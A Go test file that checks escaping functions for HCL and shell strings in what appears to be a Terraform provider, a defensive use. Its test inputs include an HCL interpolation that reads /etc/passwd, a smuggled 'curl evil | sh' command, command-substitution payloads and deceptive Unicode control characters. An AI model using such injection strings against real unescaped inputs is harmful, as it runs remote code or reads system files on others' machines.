package parse_test

import (
	"testing"

	"github.com/vodlive/terraform-provider-vodlive/internal/parse"
)

func TestHCL(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"s-1":                        `"s-1"`,
		`a"b\c`:                      `"a\"b\\c"`,
		"${file(\"/etc/passwd\")}":   `"$${file(\"/etc/passwd\")}"`,
		"%{ if true }$${x}":          `"%%{ if true }$$${x}"`,
		"a\"\n}\nimport {":           `"a\"\u000a}\u000aimport {"`,
		"\x1b\u202e\u200b\U000e0041": `"\u001b\u202e\u200b\U000e0041"`,
		"Ünï 😀":                      `"Ünï 😀"`,
	} {
		if got := parse.HCL(text); got != want {
			t.Errorf("%q: got %s, want %s", text, got, want)
		}
	}
}

func TestShell(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"vod/input/c/u/a.mp4":                  `'vod/input/c/u/a.mp4'`,
		"vod/input/c/u/two words.mp4":          `'vod/input/c/u/two words.mp4'`,
		"vod/; curl evil | sh #":               `'vod/; curl evil | sh #'`,
		"vod/input/c/u/it's $(here) `now`.mp4": `'vod/input/c/u/it'\''s $(here) ` + "`now`" + `.mp4'`,
		"a\nb\x1b[2J\u202e":                    `'a\u000ab\u001b[2J\u202e'`,
	} {
		if got := parse.Shell(text); got != want {
			t.Errorf("%q: got %s, want %s", text, got, want)
		}
	}
}
